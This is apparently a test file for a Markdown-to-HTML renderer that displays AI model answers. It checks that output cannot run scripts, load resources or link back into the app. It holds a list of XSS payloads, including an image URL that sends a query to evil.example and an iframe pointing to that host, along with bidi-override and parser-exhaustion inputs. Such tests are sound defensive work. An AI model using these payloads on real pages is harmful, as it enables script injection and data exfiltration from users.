"""Answers as HTML: nothing that a model writes can run, load or lead anywhere by itself."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sampan.serve.web.markdown import LONGEST, Writer

WRITER = Writer("Copy", "the model saw {stand_in}")

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=A123456(3))",
    "![x](data:image/svg+xml;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,x)",
    "[x](//evil.example)",
    "[x](/policies?draft=1)",
    "<a href='javascript:x'>y</a>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    '<https://evil.example/"onmouseover=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "$\\href{javascript:alert(1)}{x}$",
    "$$<script>alert(1)</script>$$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "| <img src=x> | b |\n|---|---|\n| <svg onload=x> | 2 |",
    "<svg><use href=x></svg>",
    "&lt;script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\"[^\"]*\"|[^>\"])*)>")


def dangers(html):
    found = []
    for _, name, rest in TAG.findall(html):
        if name in {
            "script",
            "img",
            "iframe",
            "style",
            "svg",
            "object",
            "embed",
            "link",
            "form",
            "input",
            "meta",
            "base",
        }:
            found.append(name)
        found += re.findall(r"\s(on\w+|style|src|srcdoc|hx-[\w-]+)=", rest)
        found += [
            url for url in re.findall(r'href="([^"]*)"', rest) if not url.startswith(("http://", "https://", "mailto:"))
        ]
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_leads_back(attack):
    assert dangers(WRITER.html(attack)) == []


@given(st.text(alphabet="<>\"'&/[]()!`$|=\\ \nabhrefonsrcjavscipt:-#*_", max_size=80))
def test_whatever_is_written(text):
    assert dangers(WRITER.html(text)) == []


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("# Title", "<h1>Title</h1>"),
        ("**bold** *it*", "<strong>bold</strong> <em>it</em>"),
        ("~~gone~~", "<s>gone</s>"),
        ("1. a\n2. b", "<ol>"),
        ("[a](https://a.example/b)", 'rel="noopener noreferrer nofollow"'),
        ("| a | b |\n|:--|--:|\n| 1 | 2 |", '<td class="right">2</td>'),
        ("```python\nx = 1\n```", "<figcaption><span>python</span>"),
        ("$a^2$", "<msup>"),
        ("$$\\frac{1}{2}$$", "<mfrac>"),
        ("costs $5 and $6", "costs $5 and $6"),
        ("你好，**世界**。", "<strong>世界</strong>"),
        ("![a cat](https://a.example/cat.png)", '<span class="picture">a cat</span>'),
    ],
)
def test_what_it_writes(text, part):
    assert part in WRITER.html(text)


def test_values_that_were_put_back_are_marked():
    html = WRITER.html("Dear 陳大文, `陳大文` <b>", {"陳大文": "[PERSON_1]"})
    assert html.count('class="restored"') == 2
    assert 'title="the model saw [PERSON_1]"' in html
    assert "&lt;b&gt;" in html


def test_a_value_with_signs_is_marked_as_it_is():
    html = WRITER.html("x A&B<1> y", {"A&B<1>": '[USER_TERM_1"]'})
    assert "A&amp;B&lt;1&gt;</span>" in html
    assert dangers(html) == []


def test_direction_cannot_be_turned_around():
    html = WRITER.html("safe\u202etxt.exe `\u2066x`")
    assert "\u202e" not in html
    assert "⟨U+202E⟩" in html


@pytest.mark.parametrize(
    "bomb",
    [
        "> " * 5000 + "x",
        "[" * 20000,
        "*" * 20000,
        "- " * 3000 + "x",
        "`" * 20001,
        "![" * 9000,
        "<" * 30000,
        "$" + "{" * 5000 + "$",
        "a" * (LONGEST + 1),
        "|" * 9000 + "\n" + "|-" * 9000,
        "\\" * 50000,
    ],
)
def test_bombs_end(bomb):
    assert WRITER.html(bomb)


def test_brackets_that_would_take_long_are_shown_as_they_are():
    """Each of them may begin a link, and all that follow are looked at."""
    bomb = "[" * 20_000
    assert WRITER.html(bomb) == f'<pre class="long">{bomb}</pre>'
    assert WRITER.finished(f"{bomb}\n\nmore") == len(bomb) + 6


@pytest.mark.parametrize(
    ("text", "done"),
    [
        ("one para", ""),
        ("one\n\ntwo", "one\n\n"),
        ("```\na\n\nb", ""),
        ("```\na\n```\n\nnext", "```\na\n```\n\n"),
        ("- a\n- b\n\nnext", "- a\n- b\n\n"),
        ("# T\ntext", "# T\n"),
        ("", ""),
    ],
)
def test_finished_blocks(text, done):
    assert text[: WRITER.finished(text)] == done


@given(
    st.lists(
        st.sampled_from(["para", "- item", "```\ncode\n\nmore\n```", "# H", "> q", "| a |\n|---|\n| b |", "1. x"]),
        max_size=6,
    )
)
def test_block_by_block_is_the_same_as_at_once(parts):
    text = "\n\n".join(parts)
    pieces, rest = [], ""
    for sign in text:
        rest += sign
        end = WRITER.finished(rest)
        pieces.append(rest[:end])
        rest = rest[end:]
    assert "".join(pieces) + rest == text


@given(st.text(alphabet="\\{}^_&frac12sqrtbeginmatx[]()$ leftright", max_size=60))
def test_tex_never_raises(text):
    assert WRITER.html(f"$${text}$$") is not None


@pytest.mark.parametrize("link", ["[x](http:/settings)", "[x](http:settings)", "[x](https:///chat)", "<http:/leave>"])
def test_no_link_leads_back_into_the_app(link):
    assert "href" not in WRITER.html(link)


def test_what_a_formula_says_is_text():
    html = WRITER.html(r"$\text{if a<b} \ne \text{<button>Send</button>}$ and the rest")
    assert "<button" not in html
    assert "a&lt;b" in html
    assert "<mo>≠</mo>" in html
    assert html.count("<p>") == 1


def test_a_value_of_no_length_marks_nothing():
    assert WRITER.html("a b", {"": "[X_1]"}) == "<p>a b</p>\n"


def test_nothing_vanishes_in_lists_too_deep_to_draw():
    text = "".join(" " * 2 * n + f"* item{n}\n" for n in range(200)) + "\n\nand an end"
    html = WRITER.html(text)
    assert all(f"item{n}" in html for n in range(200))
    assert "and an end" in html
